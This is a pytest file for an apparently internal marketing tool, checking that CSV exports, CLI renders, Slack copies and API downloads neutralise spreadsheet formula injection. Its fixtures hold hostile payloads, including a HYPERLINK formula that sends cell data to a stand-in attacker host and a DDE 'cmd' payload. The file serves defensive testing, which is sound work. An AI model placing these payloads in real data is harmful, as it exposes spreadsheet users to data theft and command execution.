"""Finding 7: cells that a spreadsheet runs as formulas are neutralised in every CSV Mara writes.

The attack: a customer signs up as ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; the
marketer opens an export or a result download in a spreadsheet. Expected: the cell is written
as text (a leading ``'``), numbers stay numbers, and machine exports can opt out.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import duckdb
import httpx
import pytest
from typer.testing import CliRunner

from api.app import create_app
from api.slack.render import copy_csv
from foundation.settings import MaraSettings, get_settings
from tests.conftest import build_tiny_warehouse
from tests.test_api import LiveServer
from tools.context import ToolContext
from tools.csv_safety import neutralise_cell
from tools.data import run_read_only_sql

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
runner = CliRunner()


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The tiny workspace with a formula as Anna's first name and a refund of -12.5."""
    ws = tmp_path / "ws"
    ws.mkdir()
    build_tiny_warehouse(ws / "warehouse.duckdb")
    with duckdb.connect(str(ws / "warehouse.duckdb")) as con:
        con.execute("UPDATE customers SET first_name = ?, city = '@SUM(1+1)' WHERE customer_id = 1", [ATTACK])
        con.execute("UPDATE orders SET total = -12.5 WHERE order_id = 101")
    monkeypatch.setenv("MARA_HOME", str(ws))
    monkeypatch.setenv("MARA_MODE", "offline")
    get_settings.cache_clear()
    yield ws
    get_settings.cache_clear()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+49 30 1234 cmd", "'+49 30 1234 cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna", "Anna"),
        (-12.5, -12.5),
        ("-12.5", "-12.5"),  # text that is only a number is read as a number, never run
        (None, None),
    ],
)
def test_neutralise_cell(cell: object, written: object) -> None:
    assert neutralise_cell(cell) == written


def test_result_artifact_csv_is_neutralised_and_numbers_stay(home: Path) -> None:
    ctx = ToolContext(get_settings())
    output = run_read_only_sql(
        ctx,
        "SELECT c.first_name, c.city, o.total FROM customers c JOIN orders o USING (customer_id) "
        "WHERE o.order_id = 101",
    )
    path = ctx.artifacts.csv_path(output.data["artifact_id"])
    assert read_csv(path.read_text()) == [["first_name", "city", "total"], ["'" + ATTACK, "'@SUM(1+1)", "-12.5"]]


def test_cli_audience_export_is_neutralised_and_raw_csv_opts_out(home: Path, tmp_path: Path) -> None:
    from assistant.cli import app

    created = runner.invoke(app, ["audience", "create", "vip", "--sql", "SELECT customer_id FROM customers", "--json"])
    assert created.exit_code == 0, created.output
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    runner.invoke(app, ["audience", "export", "vip", "--out", str(safe), "--column", "customer_id,first_name"])
    runner.invoke(app, ["audience", "export", "vip", "--out", str(raw), "--column", "customer_id,first_name", "--raw-csv"])
    assert read_csv(safe.read_text())[1] == ["1", "'" + ATTACK]
    assert read_csv(raw.read_text())[1] == ["1", ATTACK]


def test_cli_copy_render_out_is_neutralised(home: Path, tmp_path: Path) -> None:
    from assistant.cli import app

    with duckdb.connect(str(home / "warehouse.duckdb")) as con:  # short enough for an SMS merge field
        con.execute("UPDATE customers SET first_name = '=2+5' WHERE customer_id = 4")
    runner.invoke(app, ["audience", "create", "vip", "--sql", "SELECT customer_id FROM customers", "--json"])
    out = tmp_path / "sms.csv"
    result = runner.invoke(app, [
        "copy", "render", "--audience", "vip", "--channel", "sms", "--offline",
        "--template", "{{first_name|there}}: boots -20% this week", "--out", str(out), "--json",
    ])  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_text())
    dara = next(r for r in rows[1:] if r[0] == "4")
    assert dara[rows[0].index("text")].startswith("'=2+5: boots")


def test_slack_copy_csv_is_neutralised() -> None:
    rows = read_csv(copy_csv([{"text": "=1+1 boots", "checks": []}]))
    assert rows[1][1] == "'=1+1 boots"


@pytest.mark.integration
def test_api_audience_csv_is_neutralised_and_raw_true_opts_out(home: Path) -> None:
    from tools.audiences import save_audience
    from tools.warehouse import DuckDBWarehouse

    save_audience(DuckDBWarehouse(home / "warehouse.duckdb"), home, "vip", "query",
                  {"sql": "SELECT customer_id FROM customers"})
    settings = MaraSettings(home=home, mode="offline", _env_file=None)  # type: ignore[call-arg]
    with LiveServer(create_app(settings)) as server, httpx.Client(base_url=server.url) as client:
        safe = client.get("/v1/audiences/vip.csv", params={"columns": "customer_id,first_name"})
        raw = client.get("/v1/audiences/vip.csv", params={"columns": "customer_id,first_name", "raw": "true"})
    assert safe.status_code == 200, safe.text
    assert read_csv(safe.text)[1] == ["1", "'" + ATTACK]
    assert read_csv(raw.text)[1] == ["1", ATTACK]
    assert json.loads(json.dumps(dict(safe.headers)))["x-rows"] == "6"
